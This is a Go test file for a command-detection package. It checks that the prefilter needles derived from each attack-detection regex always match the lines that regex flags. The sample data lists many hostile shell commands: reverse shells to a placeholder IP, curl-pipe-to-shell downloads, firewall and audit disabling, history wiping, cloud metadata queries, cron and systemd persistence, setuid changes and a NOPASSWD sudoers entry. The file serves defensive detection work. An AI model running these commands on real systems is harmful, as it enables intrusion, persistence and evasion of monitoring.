package detect

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// Every command pattern must have needles (else the prefilter does nothing
// for it), and the prefilter must never refuse a line the pattern matches.
func TestCommandPatternNeedles(t *testing.T) {
	for _, p := range cmdPatterns {
		if len(p.needles) == 0 {
			t.Errorf("%s %q: no needles derived from %s", p.typ, p.what, p.re)
		}
	}
	// Lines the patterns match (each detection test's attack lines and
	// more), and mutations of them: whenever the expression matches, a
	// needle must be present.
	lines := []string{
		"iptables -F", "ip6tables-legacy -t nat --flush", "ufw disable", "nft flush ruleset", "systemctl mask firewalld",
		"setenforce 0", "aa-teardown", "crontab -r", "crontab -u bob -r", "systemctl stop falco", "service auditd stop",
		"history -c", "unset HISTFILE", "rm -f /root/.bash_history", "ln -sf /dev/null /root/.bash_history", "> ~/.bash_history",
		"curl -s http://x/i.sh | sh", "wget -qO- http://x | sudo bash", "curl http://x -O /tmp/a; sh /tmp/a",
		"echo aGk= | base64 -d | sh", "base64 --decode f | python3", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"python3 -c import socket,subprocess;s=socket.socket()", "perl -e use Socket;exec",
		"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
		"rm /tmp/p; mknod /tmp/p p && nc 10.0.0.1 80 0</tmp/p | /bin/bash 1>/tmp/p",
		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
		"mkfifo /tmp/b; cat /tmp/b | busybox sh -i 2>&1 | busybox nc 10.0.0.1 4444 > /tmp/b",
		"chmod +x /tmp/x && /tmp/x", "chmod 755 /dev/shm/m; /dev/shm/m",
		"curl http://169.254.169.254/latest/meta-data/", "curl metadata.google.internal", "wget [fd00:ec2::254]",
		"kubectl get secrets -A", "kubectl -n x describe pods", "kubectl auth can-i --list",
		"getent passwd", "cat /etc/passwd", "compgen -u", "arp -a", "netstat -tlnp", "ss -tulpn", "ip neigh", "cat /proc/net/tcp",
		"crontab /tmp/c", "echo '* * * * * x' >> /etc/crontab", "echo x > /var/spool/cron/root",
		"systemctl enable evil", "systemctl --now enable evil", "update-rc.d evil defaults", "chkconfig evil on", "rc-update add evil",
		"chmod u+s /bin/bash ", "chmod 4755 /tmp/sh ", "setcap cap_setuid+ep /tmp/py", "usermod -aG docker bob",
		"echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
	}
	rng := rand.New(rand.NewPCG(1, 2))
	alphabet := " -|;&/>.0123456789abcdefghijklmnopqrstuvwxyz+"
	matched := 0
	check := func(line string) {
		for _, p := range cmdPatterns {
			if p.re.MatchString(line) {
				matched++
				if !mayMatch(line, p.needles) {
					t.Errorf("%q matches %s (%s) but holds none of its needles %q", line, p.typ, p.what, p.needles)
				}
			}
		}
	}
	for _, l := range lines {
		check(l)
		for range 200 {
			b := []byte(l)
			for range 1 + rng.IntN(3) {
				i := rng.IntN(len(b))
				switch rng.IntN(3) {
				case 0:
					b[i] = alphabet[rng.IntN(len(alphabet))]
				case 1:
					b = append(b[:i], b[i+1:]...)
				default:
					b = append(b[:i], append([]byte{alphabet[rng.IntN(len(alphabet))]}, b[i:]...)...)
				}
				if len(b) == 0 {
					b = []byte("x")
				}
			}
			check(string(b))
			check(strings.ToUpper(string(b)))
		}
	}
	if matched < len(lines) {
		t.Fatalf("only %d matches over %d sample lines: the samples no longer exercise the patterns", matched, len(lines))
	}
	// A benign exec holds none.
	for _, p := range cmdPatterns {
		if line := "/usr/bin/python3 /srv/app/main.py --port 8080"; mayMatch(line, p.needles) && !p.container {
			t.Logf("benign line passes the prefilter of %s (%s): needles %q", p.typ, p.what, p.needles)
		}
	}
}

func TestNeedlesOf(t *testing.T) {
	for _, c := range []struct {
		re      string
		none    bool     // no needles can be derived
		matches []string // each must pass the prefilter
	}{
		{re: `abc`, matches: []string{"abc", "xabcx"}},
		{re: `a(b|c)d`, matches: []string{"abd", "acd"}},
		{re: `x*`, none: true},
		{re: `(foo|bar)+baz`, matches: []string{"foobaz", "barbarbaz"}},
		{re: `(^|;)rm -rf (a|b)`, matches: []string{"rm -rf a", "x;rm -rf b"}},
		{re: `(?i)secret`, none: true},
		{re: `[ug]\+s`, matches: []string{"u+s", "g+s"}},
		{re: `(curl|wget)\s+-O`, matches: []string{"curl  -O", "wget\t-O"}},
	} {
		n := needlesOf(c.re)
		if c.none != (n == nil) {
			t.Errorf("needlesOf(%q) = %q, want none: %v", c.re, n, c.none)
		}
		for _, m := range c.matches {
			if !mayMatch(m, n) {
				t.Errorf("needlesOf(%q) = %q: the match %q holds none", c.re, n, m)
			}
		}
	}
}
